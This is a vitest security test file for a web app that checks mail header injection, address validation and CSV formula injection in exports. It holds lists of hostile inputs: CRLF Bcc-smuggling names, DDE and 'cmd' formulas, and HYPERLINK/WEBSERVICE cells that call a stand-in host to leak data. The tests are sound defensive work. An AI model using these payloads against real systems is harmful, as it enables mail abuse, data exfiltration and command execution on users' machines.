import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { AuditRow, Invitation, Person } from '@/db/models';
import { ManualClock } from '@/lib/clock';
import { endpoints } from '@/lib/contracts/endpoints';
import { smtpTransport } from '@/lib/mail/smtp';
import { sendDue } from '@/lib/services/outbox/send';
import { useDatabase } from '../support/database';
import { buildBatch, buildEntry, buildMember } from '../support/factories';
import { startMailServer, type MailServer } from '../support/mail-server';
import { alertMail, owe } from '../support/owed';
import { askRoute } from '../support/routes';
import { sessionCookie } from '../support/web';

vi.mock('server-only', () => ({}));
const db = useDatabase();
const LEAST = 20;

describe('names that try to be more in a mail', () => {
  const NAMES = ['a\r\nBcc: x@example.org', 'a\nBcc: x@example.org', 'a\rBcc: x@example.org', 'a\r\n\r\nbody', 'a%0d%0aBcc: x@example.org', 'a\u2028Bcc: x@example.org', 'a\u0085Bcc: x@example.org', 'a\u0000Bcc: x@example.org', 'a\u000bBcc: x', 'a <x@example.org>', '"a" <x@example.org>, b', 'a, x@example.org', 'a; x@example.org', '=?utf-8?q?a=0D=0ABcc:_x@example.org?=', '=?utf-8?b?DQpCY2M6IHhAZXhhbXBsZS5vcmc=?=', '(comment) a', 'a\\" <x@example.org>', 'a\r\n Bcc: x@example.org', 'a\r\nContent-Type: text/html\r\n\r\n<b>', 'a\r\n.\r\nMAIL FROM:<x@example.org>', '<script>alert(1)</script>', '🍏‮evil', 'x'.repeat(3_000), '@example.org', 'undisclosed-recipients:;'];
  let server: MailServer;
  beforeEach(async () => {
    await db.sequelize.query('delete from outbox');
    server = await startMailServer();
  });
  afterEach(() => server.stop());

  it(`stay names: one mail to one address each, ${NAMES.length} times`, async () => {
    expect(NAMES.length).toBeGreaterThanOrEqual(LEAST);
    const keeper = await buildMember('keeper');
    const clock = new ManualClock(Date.now() + 1_000);
    const transport = smtpTransport({ url: server.url, from: 'Fallbright <watch@barn.example>', connectTimeoutMs: 5_000, sendTimeoutMs: 5_000 });
    for (const [index, name] of NAMES.entries()) {
      // PostgreSQL keeps no zero byte; what a mail owes was JSON on its way.
      const kept = name.replaceAll('\u0000', '');
      await Person.update({ name: kept }, { where: { id: keeper.personId } });
      await owe(keeper.personId, `case ${index}`, clock.now(), { payload: alertMail({ name: kept, headline: kept }) });
      await sendDue({ transport, clock, publicUrl: 'https://barn.example', messageHost: 'barn.example', leaseMs: 60_000, random: () => 0.5 });
      expect(server.taken, JSON.stringify(name)).toHaveLength(index + 1);
      const { to, mail } = server.taken.at(-1)!;
      expect(to, JSON.stringify(name)).toEqual([keeper.person.email]);
      expect(mail.to, JSON.stringify(name)).toMatchObject({ value: [{ address: keeper.person.email }] });
      for (const header of ['bcc', 'cc']) expect([...mail.headers.keys()], JSON.stringify(name)).not.toContain(header);
      expect(mail.subject?.length, JSON.stringify(name)).toBeLessThan(1_000);
      expect(mail.html, JSON.stringify(name)).not.toContain('<script>');
    }
    transport.close();
  });

  const ADDRESSES = ['', 'a', '@', 'a@', '@b.example', 'a b@c.example', 'a@b', 'a@b..example', 'a@b.example, c@d.example', 'a@b.example;c@d.example', 'a@b.example\r\nBcc: c@d.example', 'a@b.example\n', 'a@b.example\u0000', '"a@b.example', 'a@b.example>', '<a@b.example>', 'Una <a@b.example>', 'a@[127.0.0.1]', 'a@127.0.0.1', 'a@localhost', 'mailto:a@b.example', 'a@b.example?bcc=c@d.example', `${'x'.repeat(300)}@b.example`, 'a@b.example c@d.example', '%@b.example\r\nX: y', 'а@b.example\u202e'];
  it(`that are no addresses invite nobody, ${ADDRESSES.length} times`, async () => {
    expect(ADDRESSES.length).toBeGreaterThanOrEqual(LEAST);
    const keeper = await buildMember('keeper');
    const { cookie } = await sessionCookie(keeper.personId);
    for (const email of ADDRESSES) {
      const answer = await askRoute(endpoints.createInvitation, { cookie, body: JSON.stringify({ email, role: 'hand' }) });
      // What only has white space around it is the address without it.
      if (email.trim() !== email && /^[\w.]+@[\w.]+\.\w+$/.test(email.trim())) expect((await answer.json()) as object, JSON.stringify(email)).toMatchObject({ email: email.trim() });
      else expect(answer.status, JSON.stringify(email)).toBe(422);
    }
    expect(await Invitation.count({ where: { cellarId: keeper.cellarId } })).toBeLessThanOrEqual(1);
  });
});

describe('cells that a spreadsheet would run', () => {
  const FORMULAS = ['=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"click")', '=IMPORTXML("http://x.example","//a")', '=WEBSERVICE("http://x.example")', '+1+1', '+cmd|x', '-1+1', '-2+3+cmd|x', '@SUM(A1:A9)', '@x', "'=1+1", "''=1+1", '=DDE("cmd";"/C calc";"x")', '=\n1', '=A1&"\r\n"', '="a,b"', '=1;=2', '=(1)', '-', '+', '=', '@', '=‮1', '==1', '=SUM(1)*cmd|x'];
  it(`begin with a quote wherever they leave, ${FORMULAS.length} times`, async () => {
    expect(FORMULAS.length).toBeGreaterThanOrEqual(LEAST);
    const keeper = await buildMember('keeper');
    const { cookie } = await sessionCookie(keeper.personId);
    for (const text of FORMULAS) {
      const batch = await buildBatch({ cellarId: keeper.cellarId, name: text, place: text, yeast: text });
      await buildEntry(batch, { text, personId: keeper.personId });
      await AuditRow.create({ action: 'batch.created', subject: batch.id, cellarId: keeper.cellarId, personId: keeper.personId, detail: { name: text }, address: '127.0.0.1', means: 'session' });
    }
    const files = [[endpoints.exportTable, { params: { table: 'batches.csv' } }], [endpoints.exportTable, { params: { table: 'log.csv' } }], [endpoints.exportTrailCsv, {}]] as const;
    for (const [endpoint, asked] of files) {
      const answer = await askRoute(endpoint, { cookie, ...asked });
      expect(answer.status, endpoint.path).toBe(200);
      expect(answer.headers.get('content-type')).toContain('text/csv');
      expect(answer.headers.get('content-disposition')).toContain('attachment');
      const rows = parse(await answer.text(), { relax_column_count: true }) as string[][];
      expect(rows.length, endpoint.path).toBeGreaterThan(FORMULAS.length);
      const run = rows.flat().filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)));
      expect(run, endpoint.path).toEqual([]);
      if (endpoint === endpoints.exportTable) for (const text of FORMULAS) expect(rows.flat().some((cell) => cell === `'${text}`), `${endpoint.path}: ${text}`).toBe(true);
    }
  });
});
